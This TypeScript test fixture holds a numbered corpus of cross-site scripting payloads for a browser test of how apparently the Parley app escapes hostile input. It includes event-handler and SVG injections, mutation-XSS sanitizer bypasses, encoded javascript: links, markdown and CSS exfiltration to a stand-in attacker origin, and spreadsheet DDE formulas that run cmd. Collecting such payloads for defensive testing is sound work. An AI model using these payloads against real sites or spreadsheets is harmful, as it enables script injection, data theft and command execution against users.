/**
 * Hostile strings for the XSS journey (test/browser/xss-journey.test.ts): what a model, a user or an admin could
 * type, meant to run script in a Parley page or leak it. Each one calls `__xss(n)` if it ever runs (n is its
 * number here), and nearly all of them show `__xss(n)` as text where they are safely escaped, so a test can tell
 * "rendered harmlessly" from "silently dropped". Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's
 * XSS cheat sheet, and the DOMPurify/sanitize-html mutation-XSS bypasses (namespace confusion between HTML, SVG and
 * MathML, which turns a harmless-looking tree into script when it is serialised and parsed again).
 *
 * Where an attacker needs a server of their own (an exfiltration image, a stylesheet), they get ATTACKER, a
 * loopback origin nothing listens on: the journey routes any request to it and fails on one.
 */
export const ATTACKER = 'http://127.0.0.1:9';

export interface XssPayload {
  n: number;
  kind: string;
  text: string;
  /** What a page that escapes it (or markdown that renders it as text) must show; `__xss(n)` unless said. */
  shows: string;
}

type Recipe = { kind: string; make: (n: number) => string; shows?: (n: number) => string };

const recipes: Recipe[] = [
  // Plain script and event handlers.
  { kind: 'script tag', make: (n) => `<script>__xss(${n})</script>` },
  { kind: 'img onerror', make: (n) => `<img src=x onerror=__xss(${n})>` },
  { kind: 'pwned flag, no call', make: (n) => `<img src=x onerror="window.__pwned=${n}">`, shows: (n) => `__pwned=${n}` },
  { kind: 'details ontoggle', make: (n) => `<details open ontoggle=__xss(${n})><summary>s</summary></details>` },
  { kind: 'autofocus onfocus', make: (n) => `<input autofocus onfocus=__xss(${n})>` },
  { kind: 'body onload', make: (n) => `<body onload=__xss(${n})>` },
  { kind: 'split tag', make: (n) => `<scr<script>ipt>__xss(${n})</scr</script>ipt>` },
  { kind: 'backtick attribute', make: (n) => `<img src=\`x\`onerror=__xss(${n})>` },
  // SVG.
  { kind: 'svg onload', make: (n) => `<svg onload=__xss(${n})>` },
  { kind: 'svg animate onbegin', make: (n) => `<svg><animate onbegin=__xss(${n}) attributeName=x dur=1s></svg>` },
  { kind: 'svg animate href', make: (n) => `<svg><a><animate attributeName=href values=javascript:__xss(${n}) /><text y=20>go</text></a></svg>` },
  {
    kind: 'svg use data: href',
    make: (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss(${n})'/></svg>#x"/></svg>`,
  },
  { kind: 'svg script', make: (n) => `<svg><script>__xss(${n})</script></svg>` },
  // Mutation XSS: namespace confusion and raw-text elements that parse differently the second time.
  { kind: 'mXSS svg style', make: (n) => `<svg></p><style><a id="</style><img src=1 onerror=__xss(${n})>">` },
  {
    kind: 'mXSS math mglyph style',
    make: (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(${n})&gt;">`,
  },
  { kind: 'mXSS noscript', make: (n) => `<noscript><p title="</noscript><img src=x onerror=__xss(${n})>">` },
  { kind: 'mXSS form math', make: (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(${n})>` },
  { kind: 'mXSS xmp', make: (n) => `<xmp><p title="</xmp><img src=x onerror=__xss(${n})>">` },
  // Encoded javascript: and data: URLs.
  { kind: 'entity-encoded javascript:', make: (n) => `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss(${n})">a</a>` },
  { kind: 'jav&#x09;ascript:', make: (n) => `<a href="jav&#x09;ascript:__xss(${n})">a</a>` },
  { kind: 'markdown jav&#x09;ascript:', make: (n) => `[a](jav&#x09;ascript:__xss(${n}))` },
  { kind: 'markdown tab-split javascript:', make: (n) => `[a](java\tscript:__xss(${n})) [b](<java\nscript:__xss(${n})>)` },
  { kind: 'markdown JaVaScRiPt:', make: (n) => `[a](JaVaScRiPt:__xss(${n})) [b]( javascript:__xss(${n})) [c](javascript%3A__xss(${n}))` },
  { kind: 'markdown vbscript:', make: (n) => `[a](vbscript:__xss(${n}))` },
  {
    kind: 'markdown data:text/html',
    make: (n) => `[a](data:text/html;base64,${Buffer.from(`<script>parent.__xss(${n})</script>`).toString('base64')})`,
    shows: () => 'data:text/html;base64,',
  },
  { kind: 'html data:text/html', make: (n) => `<a href="data:text/html,<script>parent.__xss(${n})</script>">a</a>` },
  // Markdown constructs around them.
  { kind: 'markdown autolink', make: (n) => `<javascript:__xss(${n})> and javascript:__xss(${n})` },
  { kind: 'markdown reference link', make: (n) => `[ref][evil${n}]\n\n[evil${n}]: javascript:__xss(${n})` },
  { kind: 'markdown image javascript:', make: (n) => `![a](javascript:__xss(${n}))` },
  { kind: 'markdown image exfiltration', make: (n) => `![leak __xss(${n})](${ATTACKER}/exfil.png?chat=secret)` },
  { kind: 'markdown link title breakout', make: (n) => `[t${n}](${ATTACKER}/ "\\" onmouseover=__xss(${n}) x=\\"")`, shows: (n) => `t${n}` },
  { kind: 'markdown link text html', make: (n) => `[<img src=x onerror=__xss(${n})>](${ATTACKER}/)` },
  { kind: 'markdown emphasis html', make: (n) => `**<img src=x onerror=__xss(${n})>** _<svg/onload=__xss(${n})>_` },
  { kind: 'html in code fence', make: (n) => `\`\`\`html\n<script>__xss(${n})</script>\n<img src=x onerror=__xss(${n})>\n\`\`\`` },
  { kind: 'code fence breakout', make: (n) => `\`\`\`\n</code></pre><svg onload=__xss(${n})>\n\`\`\`` },
  { kind: 'code fence info string', make: (n) => `\`\`\`"><img src=x onerror=__xss(${n})>\ncode${n}\n\`\`\``, shows: (n) => `code${n}` },
  { kind: 'backtick escape', make: (n) => `\`\` \`</code><img src=x onerror=__xss(${n})>\` \`\`` },
  // <meta>, CSS, frames, <base>, forms.
  { kind: 'meta refresh javascript:', make: (n) => `<meta http-equiv="refresh" content="0;url=javascript:__xss(${n})">` },
  { kind: 'meta refresh away', make: (n) => `<meta http-equiv="refresh" content="1;url=${ATTACKER}/exfil?__xss(${n})">` },
  { kind: 'style url(javascript:)', make: (n) => `<div style="background-image:url(javascript:__xss(${n}))">d</div>` },
  { kind: 'style expression()', make: (n) => `<p style="width:expression(__xss(${n}))">p</p>` },
  { kind: 'style @import', make: (n) => `<style>@import '${ATTACKER}/exfil.css?__xss(${n})';</style>` },
  { kind: 'link stylesheet', make: (n) => `<link rel=stylesheet href="${ATTACKER}/exfil.css?__xss(${n})">` },
  { kind: 'iframe srcdoc', make: (n) => `<iframe srcdoc="<script>parent.__xss(${n})</script>"></iframe>` },
  { kind: 'iframe javascript:', make: (n) => `<iframe src="javascript:parent.__xss(${n})"></iframe>` },
  { kind: 'object and embed', make: (n) => `<object data="javascript:__xss(${n})"></object><embed src="javascript:__xss(${n})">` },
  { kind: 'base href', make: (n) => `<base href="${ATTACKER}/__xss(${n})/">` },
  { kind: 'form action', make: (n) => `<form action="javascript:__xss(${n})"><button formaction="javascript:__xss(${n})">b</button></form>` },
  { kind: 'template', make: (n) => `<template><img src=x onerror=__xss(${n})></template>` },
  { kind: 'declarative shadow DOM', make: (n) => `<div><template shadowrootmode=open><img src=x onerror=__xss(${n})></template></div>` },
  { kind: 'dangling img src', make: (n) => `<img src='${ATTACKER}/exfil?__xss(${n})` },
  { kind: 'dangling textarea', make: (n) => `<textarea>__xss(${n})` },
  // Breaking out of the place a value is put in: an attribute, <title>, <textarea>, <script>.
  { kind: 'attribute breakout "', make: (n) => `"><img src=x onerror=__xss(${n})>` },
  { kind: "attribute breakout '", make: (n) => `'><svg onload=__xss(${n})>` },
  { kind: '</title> breakout', make: (n) => `</title><img src=x onerror=__xss(${n})>` },
  { kind: '</textarea> breakout', make: (n) => `</textarea><img src=x onerror=__xss(${n})>` },
  { kind: '</script> breakout', make: (n) => `</script><script>__xss(${n})</script>` },
  {
    kind: 'polyglot',
    make: (n) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=__xss(${n}) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss(${n})//>\\x3e`,
  },
  // Spreadsheet formulas (CSV injection), each also HTML.
  { kind: 'formula =HYPERLINK', make: (n) => `=HYPERLINK("${ATTACKER}/?leak","__xss(${n})")` },
  { kind: 'formula +DDE', make: (n) => `+cmd|' /C calc'!A0<b>__xss(${n})</b>` },
  { kind: 'formula -', make: (n) => `-2+3+cmd|' /C calc'!A0 __xss(${n})` },
  { kind: 'formula @', make: (n) => `@SUM(1+1)*cmd|' /C calc'!A0 __xss(${n})` },
  { kind: 'formula after tab', make: (n) => `\t=1+1 __xss(${n})` },
];

export const XSS_CORPUS: readonly XssPayload[] = recipes.map((r, i) => ({
  n: i + 1,
  kind: r.kind,
  text: r.make(i + 1),
  shows: r.shows ? r.shows(i + 1) : `__xss(${i + 1})`,
}));

/** Payloads a name field takes as typed: at most `max` characters and no control characters (the forms refuse those). */
export function fitsNameField(p: XssPayload, max: number): boolean {
  return [...p.text].length <= max && !/[\u0000-\u001f\u007f]/.test(p.text);
}

/** The whole corpus as one markdown answer: each payload in its own block, after a marker paragraph (P1, P2…). */
export function corpusAsMarkdown(payloads: readonly XssPayload[] = XSS_CORPUS): string {
  return payloads.map((p) => `**P${p.n}** ${p.kind}\n\n${p.text}\n\n---`).join('\n\n');
}
